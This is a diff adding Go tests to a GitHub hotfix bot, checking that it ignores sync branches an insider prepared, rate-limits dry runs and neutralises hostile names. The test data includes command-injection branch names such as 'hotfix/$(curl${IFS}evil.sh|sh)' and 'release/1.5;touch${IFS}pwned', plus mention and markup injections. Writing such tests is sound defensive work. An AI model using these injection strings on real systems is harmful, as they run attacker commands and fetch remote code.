@@ -8,9 +8,11 @@ import (
 	"net/http/httptest"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/hotfix-bot/hotfix-bot/internal/ghsim"
 	"github.com/hotfix-bot/hotfix-bot/internal/harness"
+	"github.com/hotfix-bot/hotfix-bot/policy"
 )
 
 // Hostile input: each gets a clear refusal or is ignored, and nothing
@@ -221,5 +223,210 @@ func TestSecretsNeverLeak(t *testing.T) {
 				t.Errorf("the %s appears in the %s", what, where)
 			}
 		}
+	}
+}
+
+// An insider who knows the next tag (the /promote plan announces it)
+// prepares the sync branches: one with a commit of theirs and a pull
+// request opened and closed from it, one with a commit and no pull
+// request. The bot uses neither, says so on the hotfix pull request, syncs
+// from fresh names with exactly the release, and a redelivered success
+// opens nothing more.
+func TestSyncBackIgnoresWhatAnInsiderPrepared(t *testing.T) {
+	w := start(t, harness.Options{})
+	r, in := w.in.Repo, w.in
+	mallory := w.h.Sim.User("mallory")
+	r.SetRole("mallory", "write")
+	devName, relName := "hotfix-bot/sync/v1.4.3-to-develop", "hotfix-bot/sync/v1.4.3-to-release/1.5"
+	must[string](t)(r.CreateBranch(mallory, devName, "develop"))
+	must[string](t)(r.Push(mallory, devName, "Sync v1.4.3 into develop\n\nhotfix-bot sync commit", ghsim.Files{"payments/backdoor.go": "package payments\n"}))
+	closed := must[int](t)(r.OpenPR(mallory, devName, "develop", "Sync v1.4.3 into develop"))
+	noErr(t, r.ClosePR(mallory, closed))
+	must[string](t)(r.CreateBranch(mallory, relName, "release/1.5"))
+	must[string](t)(r.Push(mallory, relName, "Sync", ghsim.Files{"payments/backdoor.go": "package payments\n"}))
+	w.settle()
+
+	n, head := w.approvedHotfix("hotfix/payment-timeout")
+	w.comment(in.Rob, n, "/promote")
+	d, _ := w.onlyDeployment()
+	w.report(d.ID, "success")
+
+	botSyncs := func(base string) []ghsim.Issue {
+		var out []ghsim.Issue
+		for _, is := range w.pullsInto(base, "hotfix-bot/sync/") {
+			if is.User.Type == "Bot" {
+				out = append(out, is)
+			}
+		}
+		return out
+	}
+	for base, name := range map[string]string{"develop": devName, "release/1.5": relName} {
+		got := botSyncs(base)
+		if len(got) != 1 || got[0].PR.HeadRef != name+"-2" {
+			t.Fatalf("the bot's sync PRs into %s: %+v, want one from %s-2", base, got, name)
+		}
+		// Exactly the release: one commit of the bot's on the tag, with its tree.
+		if r.CommitMessage(got[0].PR.HeadSHA) == "" || r.Branch(name) == got[0].PR.HeadSHA {
+			t.Errorf("the sync into %s comes from the prepared branch", base)
+		}
+		if files := r.Diff(head, got[0].PR.HeadSHA); len(files) != 0 {
+			t.Errorf("the sync into %s carries more than the release: %v", base, files)
+		}
+	}
+	if pr, _ := r.PR(closed); pr.State != "closed" {
+		t.Error("the insider's pull request was touched")
+	}
+	summary := w.botComments(n, "hotfix-bot:deployed:")
+	if len(summary) != 1 {
+		t.Fatalf("%d summaries", len(summary))
+	}
+	for _, want := range []string{"left alone, not the bot's", "`" + devName + "`", "`" + relName + "`", "someone else put commits there",
+		fmt.Sprintf("#%d (closed, by `mallory`)", closed), "from `" + devName + "-2`"} {
+		if !strings.Contains(summary[0].Body, want) {
+			t.Errorf("summary lacks %q:\n%s", want, summary[0].Body)
+		}
+	}
+
+	// A redelivered success finds the same names and opens nothing more.
+	var success []ghsim.Delivery
+	for _, dl := range w.h.Sim.Deliveries() {
+		if dl.Event == "deployment_status" && strings.Contains(string(dl.Payload), `"state":"success"`) {
+			success = append(success, dl)
+		}
+	}
+	for _, dl := range success {
+		noErr(t, w.h.Sim.Redeliver(w.ctx, dl.ID))
+	}
+	w.settle()
+	if len(botSyncs("develop")) != 1 || len(botSyncs("release/1.5")) != 1 {
+		t.Errorf("a redelivery opened more sync PRs: %d into develop, %d into release/1.5", len(botSyncs("develop")), len(botSyncs("release/1.5")))
+	}
+	w.noHandlerErrors()
+}
+
+// On a public repository anyone can ask for a dry run: a flood of them
+// from one person costs one real evaluation a minute; the rest get one
+// short reply each, without a 👀, a permission read or any gate read,
+// and are counted.
+func TestFloodOfDryRuns(t *testing.T) {
+	w := start(t, harness.Options{})
+	r, ivan := w.in.Repo, w.in.Ivan
+	n, _ := w.approvedHotfix("hotfix/payment-timeout")
+	first := w.comment(ivan, n, "/promote --dry-run")
+	w.reply(n, first, "Dry run")
+	for i := 0; i < 5; i++ {
+		mark := len(w.h.Sim.Calls())
+		id := must[int64](t)(r.Comment(ivan, n, "/promote --dry-run"))
+		w.settle()
+		w.reply(n, id, "One dry run per person per minute on a pull request", "nothing was run")
+		if got := w.reactions(n, id); len(got) != 0 {
+			t.Errorf("reactions %v on a limited dry run", got)
+		}
+		var calls []string
+		for _, c := range w.h.Sim.Calls()[mark:] {
+			if !strings.HasSuffix(c.Path, "/access_tokens") {
+				calls = append(calls, c.Method+" "+c.Path)
+			}
+		}
+		if len(calls) > 2 {
+			t.Errorf("a limited dry run cost %d requests, want at most 2 (find its reply, write it): %v", len(calls), calls)
+		}
+	}
+	// Someone else, and Ivan a minute later, are answered in full.
+	w.reply(n, w.comment(w.in.Dana, n, "/promote --dry-run"), "Dry run")
+	w.h.Sim.Clock().Advance(time.Minute)
+	w.reply(n, w.comment(ivan, n, "/promote --dry-run"), "Dry run")
+
+	rec := httptest.NewRecorder()
+	w.h.Bots[0].Handler().ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/metrics", nil))
+	if !strings.Contains(rec.Body.String(), `hotfixbot_cost_limited_total{what="dry_run"} 5`) {
+		t.Errorf("the limited dry runs are not counted:\n%s", rec.Body.String())
+	}
+	w.noHandlerErrors()
+}
+
+// Names and texts someone else chose, through a whole story: a branch
+// name that runs a command, a release branch named like one, commit and
+// pull request titles, an emergency reason, command arguments and what
+// the CD system says, all mentioning a team and a person. Every command
+// the bot prints quotes the names, and nothing the bot writes mentions
+// anyone it was told to.
+func TestHostileNamesAndMentions(t *testing.T) {
+	w := start(t, harness.Options{})
+	r, in := w.in.Repo, w.in
+	const team, person = "acme/everyone", "victim"
+	must[string](t)(r.Push(in.Rob, "main", "Emergency list", ghsim.Files{".github/hotfix-bot.yml": "commands:\n  emergency:\n    users: [rob]\n"}))
+	must[string](t)(r.Push(in.Dana, "develop", "Ping @acme/everyone and @victim", ghsim.Files{"payments/ping.go": "package payments\n"}))
+	evil := "release/1.5;touch${IFS}pwned"
+	must[string](t)(r.CreateBranch(in.Dana, evil, "release/1.5"))
+	w.settle()
+
+	// A branch cut from develop with a name that runs a command.
+	branch := "hotfix/$(curl${IFS}evil.sh|sh)"
+	must[string](t)(r.CreateBranch(in.Dana, branch, "develop"))
+	bad := must[string](t)(r.Push(in.Dana, branch, "Fix", ghsim.Files{"payments/fix.go": "package payments\n"}))
+	w.settle()
+	w.expect(bad, policy.CheckBase, policy.Failure, "'"+branch+"'\n", "git switch -c '"+branch+"-2' v1.4.2", "Ping @\u200dacme/everyone")
+
+	n, _ := w.approvedHotfix("hotfix/payment-timeout")
+	noErr(t, r.EditPR(in.Dana, n, "Fix it @acme/everyone `@victim` <b>now</b>"))
+	w.settle()
+	usage := w.comment(in.Rob, n, "/promote --@acme/everyone")
+	w.reply(n, usage, "unknown option `--@acme/everyone`")
+	w.comment(in.Rob, n, "/rollback @victim")
+	w.comment(in.Rob, n, "/promote --emergency checkout is down, cc @acme/everyone and @victim")
+	d, _ := w.onlyDeployment()
+	noErr(t, r.SetDeploymentStatusWithLog(in.CD, d.ID, "failure", "ask @acme/everyone", "https://ci.example.com/x) @victim [y](z"))
+	w.settle()
+	ds := w.botDeployments()
+	w.report(ds[len(ds)-1].ID, "success") // the automatic rollback
+	w.comment(in.Rob, n, "/promote --emergency still down, @victim")
+	ds = w.botDeployments()
+	w.report(ds[len(ds)-1].ID, "success")
+	syncs := w.pullsInto(evil, "hotfix-bot/sync/")
+	if len(syncs) != 1 {
+		t.Fatalf("%d sync PRs into %s", len(syncs), evil)
+	}
+	if cs := w.botComments(syncs[0].Number, "git switch 'hotfix-bot/sync/v1.4.3-to-"+evil+"' && git merge 'origin/"+evil+"'"); len(cs) != 1 {
+		t.Errorf("the conflict instructions do not quote the names: %+v", w.botComments(syncs[0].Number, "git "))
+	}
+
+	// Everything the bot wrote: comments, issues, pull requests, checks.
+	var written []string
+	for _, is := range r.Issues() {
+		if is.User.Type == "Bot" {
+			written = append(written, is.Title+"\n"+is.Body)
+		}
+		for _, c := range r.Comments(is.Number) {
+			if c.User.Type == "Bot" {
+				written = append(written, c.Body)
+			}
+		}
+	}
+	for _, sha := range []string{bad, r.Branch("main"), r.TagCommit("v1.4.3"), syncs[0].PR.HeadSHA} {
+		for _, cr := range r.CheckRuns(sha) {
+			written = append(written, cr.Title+"\n"+cr.Summary)
+		}
+	}
+	if len(written) < 15 {
+		t.Fatalf("only %d texts written: the story did not run", len(written))
+	}
+	seen := map[string]bool{}
+	for _, text := range written {
+		for _, m := range ghsim.Mentions(text) {
+			seen[m] = true
+			if m == team || m == person {
+				t.Errorf("@%s is mentioned in:\n%s", m, text)
+			}
+		}
+		if strings.Contains(text, "[y](z") || strings.Contains(text, "<b>") {
+			t.Errorf("markup someone else wrote came through:\n%s", text)
+		}
+	}
+	if !seen["rob"] {
+		t.Errorf("the test found no mention at all (%v): the scan is broken", seen)
+	}
+	if len(w.incidentIssues()) != 1 {
+		t.Error("the story did not reach the incident issue")
 	}
 }
